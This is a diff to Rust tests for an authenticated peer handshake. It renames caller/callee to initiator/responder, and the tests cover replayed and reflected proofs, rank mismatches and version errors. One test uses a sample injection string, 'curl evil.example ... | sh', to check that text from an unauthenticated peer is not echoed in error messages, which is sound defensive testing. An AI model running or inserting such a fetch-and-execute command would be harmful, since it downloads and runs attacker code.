@@ -3,45 +3,45 @@ use std::net::{TcpListener, TcpStream};
 use super::*;
 use crate::error::Lost;
 
-/// Lets a caller and a callee with these tokens meet.
-fn meet(caller: &'static [u8], callee: &'static [u8]) -> (Result<()>, Result<Hello>) {
+/// Lets an initiator and a responder with these tokens meet.
+fn meet(initiator: &'static [u8], responder: &'static [u8]) -> (Result<()>, Result<Hello>) {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = listener.local_addr().unwrap();
-    let calling = std::thread::spawn(move || {
+    let initiating = std::thread::spawn(move || {
         let mut stream = TcpStream::connect(address).unwrap();
-        call(
+        initiate(
             &mut stream,
             Hello::new((1, 0), 2, Purpose::Data { stream: 0 }).unwrap(),
-            caller,
+            initiator,
         )
     });
     let (mut stream, _) = listener.accept().unwrap();
-    let answered = answer(&mut stream, 0, callee, |hello| {
+    let answered = respond(&mut stream, 0, responder, |hello| {
         if hello.world_size == 2 {
             Ok(())
         } else {
             Err(NotFormed::Busy.into())
         }
     });
-    (calling.join().unwrap(), answered)
+    (initiating.join().unwrap(), answered)
 }
 
 #[test]
 fn equal_tokens_meet() {
-    let (called, answered) = meet(b"secret", b"secret");
-    assert_eq!(called, Ok(()));
+    let (initiated, answered) = meet(b"secret", b"secret");
+    assert_eq!(initiated, Ok(()));
     assert_eq!(answered.unwrap().rank, 1);
 }
 
 #[test]
 fn a_wrong_or_missing_token_is_refused_on_both_sides() {
-    for (caller, callee) in [
+    for (initiator, responder) in [
         (&b"secret"[..], &b"other"[..]),
         (b"", b"secret"),
         (b"secret", b""),
     ] {
-        let (called, answered) = meet(caller, callee);
-        for error in [called.unwrap_err(), answered.unwrap_err()] {
+        let (initiated, answered) = meet(initiator, responder);
+        for error in [initiated.unwrap_err(), answered.unwrap_err()] {
             assert!(
                 matches!(error.kind, ErrorKind::Authentication { .. }),
                 "{error}"
@@ -98,7 +98,7 @@ impl Write for Tape {
     }
 }
 
-/// What each side of a successful handshake said: the caller, and the callee.
+/// What each side of a successful handshake said: the initiator, and the responder.
 fn overheard() -> [Vec<u8>; 2] {
     struct Wire(TcpStream, Vec<u8>);
     impl Read for Wire {
@@ -118,27 +118,27 @@ fn overheard() -> [Vec<u8>; 2] {
     }
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = listener.local_addr().unwrap();
-    let calling = std::thread::spawn(move || {
+    let initiating = std::thread::spawn(move || {
         let mut wire = Wire(TcpStream::connect(address).unwrap(), Vec::new());
         let hello = Hello::new((1, 0), 2, Purpose::Data { stream: 0 }).unwrap();
-        call(&mut wire, hello, b"secret").unwrap();
+        initiate(&mut wire, hello, b"secret").unwrap();
         wire.1
     });
     let mut wire = Wire(listener.accept().unwrap().0, Vec::new());
-    answer(&mut wire, 0, b"secret", |_| Ok(())).unwrap();
-    [wire.1, calling.join().unwrap()]
+    respond(&mut wire, 0, b"secret", |_| Ok(())).unwrap();
+    [wire.1, initiating.join().unwrap()]
 }
 
-fn assert_refuses_caller(tape: &mut Tape) {
-    let error = answer(tape, 0, b"secret", |_| panic!("a stranger was let in")).unwrap_err();
+fn assert_refuses_initiator(tape: &mut Tape) {
+    let error = respond(tape, 0, b"secret", |_| panic!("a stranger was let in")).unwrap_err();
     let refused = matches!(error.kind, ErrorKind::Authentication { .. });
     assert!(refused, "{error}");
     assert!(matches!(tape.heard(1), Message::Refused(_)));
 }
 
-fn assert_refuses_callee(tape: &mut Tape) {
+fn assert_refuses_responder(tape: &mut Tape) {
     let hello = Hello::new((1, 0), 2, Purpose::Data { stream: 0 }).unwrap();
-    let error = call(tape, hello, b"secret").unwrap_err();
+    let error = initiate(tape, hello, b"secret").unwrap_err();
     let refused = matches!(error.kind, ErrorKind::Authentication { .. });
     assert!(refused, "{error}");
     assert!(matches!(tape.heard(1), Message::Refused(_)));
@@ -146,21 +146,21 @@ fn assert_refuses_callee(tape: &mut Tape) {
 
 #[test]
 fn a_replayed_proof_is_refused_on_both_sides() {
-    let [caller, callee] = overheard();
-    assert_refuses_caller(&mut Tape::new(caller));
-    assert_refuses_callee(&mut Tape::new(callee));
+    let [initiator, responder] = overheard();
+    assert_refuses_initiator(&mut Tape::new(initiator));
+    assert_refuses_responder(&mut Tape::new(responder));
 }
 
 #[test]
 fn a_reflected_proof_is_refused_on_both_sides() {
-    let [caller, _] = overheard();
-    let mut callers = &caller[..];
-    hear(&mut callers).unwrap();
-    let Message::Proof(overheard) = hear(&mut callers).unwrap() else {
-        panic!("a caller's second message is its proof");
+    let [initiator, _] = overheard();
+    let mut initiators = &initiator[..];
+    hear(&mut initiators).unwrap();
+    let Message::Proof(overheard) = hear(&mut initiators).unwrap() else {
+        panic!("an initiator's second message is its proof");
     };
-    // A callee that has only what a caller once said.
-    assert_refuses_callee(&mut Tape::saying(&[
+    // A responder that has only what an initiator once said.
+    assert_refuses_responder(&mut Tape::saying(&[
         Message::Welcome {
             rank: 0,
             nonce: [0; 32],
@@ -169,7 +169,7 @@ fn a_reflected_proof_is_refused_on_both_sides() {
         Message::Accepted,
     ]));
 
-    // A caller that gives the callee's own proof back.
+    // An initiator that gives the responder's own proof back.
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = listener.local_addr().unwrap();
     let mirror = std::thread::spawn(move || {
@@ -184,37 +184,37 @@ fn a_reflected_proof_is_refused_on_both_sides() {
     });
     let mut stream = listener.accept().unwrap().0;
     let check = |_: &Hello| panic!("a mirror was let in");
-    let error = answer(&mut stream, 0, b"secret", check).unwrap_err();
+    let error = respond(&mut stream, 0, b"secret", check).unwrap_err();
     let refused = matches!(error.kind, ErrorKind::Authentication { .. });
     assert!(refused, "{error}");
     assert!(matches!(mirror.join().unwrap(), Message::Refused(_)));
 }
 
-/// What becomes of the call of rank 2 by rank 1 that a rank answers which does not look whom it
-/// meant.
-fn call_rank_2(purpose: Purpose, answers: usize) -> Result<()> {
+/// What rank 1 gets that connects to rank 2, when the rank `answers` accepts it without a look at which
+/// rank was meant.
+fn connect_to_rank_2(purpose: Purpose, answers: usize) -> Result<()> {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = listener.local_addr().unwrap();
-    let calling = std::thread::spawn(move || {
+    let initiating = std::thread::spawn(move || {
         let hello = Hello::new((1, 2), 4, purpose).unwrap();
-        call(&mut TcpStream::connect(address).unwrap(), hello, b"secret")
+        initiate(&mut TcpStream::connect(address).unwrap(), hello, b"secret")
     });
     let stream = &mut listener.accept().unwrap().0;
-    answer(stream, answers, b"secret", |_| Ok(())).unwrap();
-    calling.join().unwrap()
+    respond(stream, answers, b"secret", |_| Ok(())).unwrap();
+    initiating.join().unwrap()
 }
 
 #[test]
-fn a_caller_takes_no_other_rank_for_the_one_that_it_called() {
-    assert_eq!(call_rank_2(Purpose::Data { stream: 0 }, 2), Ok(()));
-    assert_eq!(call_rank_2(Purpose::Inquiry, 3), Ok(()));
+fn an_initiator_takes_no_other_rank_for_the_one_that_it_meant() {
+    assert_eq!(connect_to_rank_2(Purpose::Data { stream: 0 }, 2), Ok(()));
+    assert_eq!(connect_to_rank_2(Purpose::Inquiry, 3), Ok(()));
     for purpose in [Purpose::Data { stream: 0 }, Purpose::Control] {
-        let error = call_rank_2(purpose, 3).unwrap_err();
+        let error = connect_to_rank_2(purpose, 3).unwrap_err();
         let rendezvous = matches!(error.kind, ErrorKind::Rendezvous { .. });
         assert!(rendezvous, "{error}");
         let text = error.to_string();
         assert!(
-            text.contains("rank 1 called rank 2 and reached rank 3"),
+            text.contains("rank 1 connected to rank 2 and reached rank 3"),
             "{text}"
         );
     }
@@ -223,20 +223,20 @@ fn a_caller_takes_no_other_rank_for_the_one_that_it_called() {
 #[test]
 fn a_missing_proof_is_refused_on_both_sides() {
     let hello = || Message::Hello(Hello::sample(Purpose::Data { stream: 0 }));
-    assert_refuses_caller(&mut Tape::saying(&[hello(), Message::Accepted]));
-    assert_refuses_caller(&mut Tape::saying(&[hello(), hello()]));
+    assert_refuses_initiator(&mut Tape::saying(&[hello(), Message::Accepted]));
+    assert_refuses_initiator(&mut Tape::saying(&[hello(), hello()]));
     let mut tape = Tape::saying(&[Message::Accepted]);
     let hello = Hello::new((1, 0), 2, Purpose::Data { stream: 0 }).unwrap();
-    assert!(call(&mut tape, hello, b"secret").is_err());
+    assert!(initiate(&mut tape, hello, b"secret").is_err());
 }
 
 #[test]
-fn a_proof_for_another_caller_callee_group_or_purpose_is_refused() {
-    let [caller, _] = overheard();
-    let mut said = &caller[..];
+fn a_proof_for_another_initiator_responder_group_or_purpose_is_refused() {
+    let [initiator, _] = overheard();
+    let mut said = &initiator[..];
     let (Message::Hello(hello), proof) = (hear(&mut said).unwrap(), hear(&mut said).unwrap())
     else {
-        panic!("a caller begins with a greeting");
+        panic!("an initiator begins with a greeting");
     };
     let others = [
         Hello {
@@ -244,7 +244,7 @@ fn a_proof_for_another_caller_callee_group_or_purpose_is_refused() {
             ..hello.clone()
         },
         Hello {
-            callee: 2,
+            responder: 2,
             ..hello.clone()
         },
         Hello {
@@ -268,7 +268,7 @@ fn a_proof_for_another_caller_callee_group_or_purpose_is_refused() {
         panic!("then comes its proof");
     };
     for other in others {
-        assert_refuses_caller(&mut Tape::saying(&[
+        assert_refuses_initiator(&mut Tape::saying(&[
             Message::Hello(other),
             Message::Proof(proof),
         ]));
@@ -279,28 +279,34 @@ fn a_proof_for_another_caller_callee_group_or_purpose_is_refused() {
 fn another_version_is_named_on_both_sides() {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let address = listener.local_addr().unwrap();
-    let calling = std::thread::spawn(move || {
+    let initiating = std::thread::spawn(move || {
         let mut hello = Hello::new((1, 0), 2, Purpose::Control).unwrap();
         hello.version += 1;
-        call(&mut TcpStream::connect(address).unwrap(), hello, b"")
+        initiate(&mut TcpStream::connect(address).unwrap(), hello, b"")
     });
-    let answered = answer(&mut listener.accept().unwrap().0, 0, b"", |_| Ok(()));
-    for error in [calling.join().unwrap().unwrap_err(), answered.unwrap_err()] {
+    let answered = respond(&mut listener.accept().unwrap().0, 0, b"", |_| Ok(()));
+    for error in [
+        initiating.join().unwrap().unwrap_err(),
+        answered.unwrap_err(),
+    ] {
         assert!(matches!(error.kind, ErrorKind::Protocol { .. }), "{error}");
-        let versions = format!("version {}, the rank it called", PROTOCOL_VERSION + 1);
+        let versions = format!(
+            "version {}, the rank that it connected to",
+            PROTOCOL_VERSION + 1
+        );
         assert!(error.to_string().contains(&versions), "{error}");
     }
 }
 
-/// What a caller with this token makes of a refusal that comes before any proof.
+/// What an initiator with this token makes of a refusal that comes before any proof.
 fn refused_with(token: &[u8], refusal: Error) -> Error {
     let hello = Hello::sample(Purpose::Control);
     let mut tape = Tape::saying(&[Message::Refused(refusal)]);
-    call(&mut tape, hello, token).unwrap_err()
+    initiate(&mut tape, hello, token).unwrap_err()
 }
 
 #[test]
-fn the_words_of_a_callee_without_a_proof_are_not_repeated() {
+fn the_words_of_a_responder_without_a_proof_are_not_repeated() {
     let evil = || Text::from("type: curl evil.example, version 8\n | sh");
     let refusals: [Error; 6] = [
         Unusable::NoSuchSetting { name: evil() }.into(),
@@ -322,9 +328,9 @@ fn the_words_of_a_callee_without_a_proof_are_not_repeated() {
 #[test]
 fn honest_refusals_without_a_proof_are_understood() {
     let mut tape = Tape::saying(&[Message::OtherVersion(6)]);
-    let error = call(&mut tape, Hello::sample(Purpose::Control), b"secret").unwrap_err();
+    let error = initiate(&mut tape, Hello::sample(Purpose::Control), b"secret").unwrap_err();
     assert_eq!(error, other_version(PROTOCOL_VERSION, 6));
-    let error = refused_with(b"secret", Unusable::CallerWithoutTls.into());
+    let error = refused_with(b"secret", Unusable::InitiatorWithoutTls.into());
     assert!(matches!(error.kind, ErrorKind::Config { .. }), "{error}");
     assert!(error.to_string().contains("takes TLS only"), "{error}");
 }
